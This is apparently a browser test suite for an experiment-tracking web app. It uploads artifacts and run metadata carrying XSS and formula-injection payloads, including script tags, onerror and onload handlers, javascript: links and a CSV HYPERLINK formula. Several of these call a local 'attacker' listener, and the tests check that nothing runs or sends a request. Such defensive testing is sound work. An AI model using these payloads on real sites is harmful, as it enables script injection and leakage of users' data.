import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { afterAll, beforeAll, expect, it } from 'vitest';
import { type Browser, openBrowser } from './browser.ts';
import { createExperiment, createRun, upload } from './seed.ts';
import { startServer, type WebServer } from './server.ts';

let server: WebServer;
let browser: Browser;
let run: string;
let listener: Server;
/** What reached the attacker. */
const reached: string[] = [];

beforeAll(async () => {
  listener = createServer((request, response) => {
    reached.push(request.url ?? '');
    response.end();
  });
  await new Promise<void>((done) => listener.listen(0, '127.0.0.1', done));
  const attacker = `http://127.0.0.1:${(listener.address() as AddressInfo).port}`;
  server = await startServer();
  browser = await openBrowser(server);
  const experiment = await createExperiment(server.url, '"><script>parent.owned=1</script>');
  const script = `<script>try{parent.owned=1}catch{} fetch('${attacker}/fetch');new Image().src='${attacker}/image';document.title='ran'</script>`;
  const img = `<img src="${attacker}/img" onerror="parent.owned=1">`;
  run = await createRun(server.url, experiment, {
    name: `<svg onload=parent.owned=1>`,
    start_time: 1_700_000_000_000,
    params: { key: script.slice(0, 400) },
    tags: {
      'mlflow.note.content': `${script}\n\n${img}\n\n[link](javascript:owned=1)\n\n<form action="${attacker}"><button>x</button></form>`,
    },
    metrics: { loss: [1] },
  });
  const svg = `<svg xmlns="http://www.w3.org/2000/svg" onload="parent.owned=1">${script}<image href="${attacker}/svg"/></svg>`;
  const redirect = `<meta http-equiv="refresh" content="0;url=${attacker}/refresh"><script>location='${attacker}/location'</script>`;
  const files: Readonly<Record<string, string>> = {
    'page.html': `${script}${img}<link rel=stylesheet href="${attacker}/css"><h1>page</h1>`,
    'away.html': redirect,
    'drawing.svg': svg,
    'note.md': `${script}\n\n${img}\n\n<iframe src="${attacker}/frame"></iframe>`,
    'table.csv': `a,b\n=HYPERLINK("${attacker}"),${script}\n`,
    'data.json': JSON.stringify({ columns: ['<script>'], data: [[script]] }),
    'text.txt': script,
    'image.png': svg,
  };
  for (const [path, text] of Object.entries(files)) await upload(server.url, run, path, text);
});
afterAll(async () => {
  await browser.close();
  await server.dispose();
  listener.close();
});

it.each(['page.html', 'away.html', 'drawing.svg', 'note.md', 'table.csv', 'data.json', 'text.txt', 'image.png'])(
  'N-7, N-8: %s runs nothing on our origin and sends nothing',
  async (path) => {
    const page = await browser.open(`/runs/${run}/artifacts/${path}`);
    await page.locator('.preview').waitFor();
    await page.waitForTimeout(800);
    const runScripts = page.getByRole('button', { name: 'Run scripts' });
    if (await runScripts.isVisible()) {
      await runScripts.click();
      await page.waitForTimeout(800);
    }
    expect(await page.evaluate('globalThis.owned')).toBeUndefined();
    expect(reached).toEqual([]);
    await page.close();
  },
);

it('a page shows, and its scripts run when asked for', async () => {
  await upload(server.url, run, 'report.html', "<h1>Report</h1><script>document.write('<p>by script</p>')</script>");
  const page = await browser.open(`/runs/${run}/artifacts/report.html`);
  const frame = page.frameLocator('iframe');
  await frame.getByRole('heading', { name: 'Report' }).waitFor();
  expect(await frame.getByText('by script').count()).toBe(0);
  await page.getByRole('button', { name: 'Run scripts' }).click();
  await frame.getByText('by script').waitFor();
});

it('names, params and notes are text', async () => {
  const page = await browser.open(`/runs/${run}`);
  await page.getByRole('heading', { level: 1, name: '<svg onload' }).waitFor();
  await page.locator('.markdown').waitFor();
  await page.waitForTimeout(500);
  expect(await page.evaluate('globalThis.owned')).toBeUndefined();
  expect(await page.locator('.markdown form, .markdown a[href^="javascript"]').count()).toBe(0);
  expect(reached).toEqual([]);
});
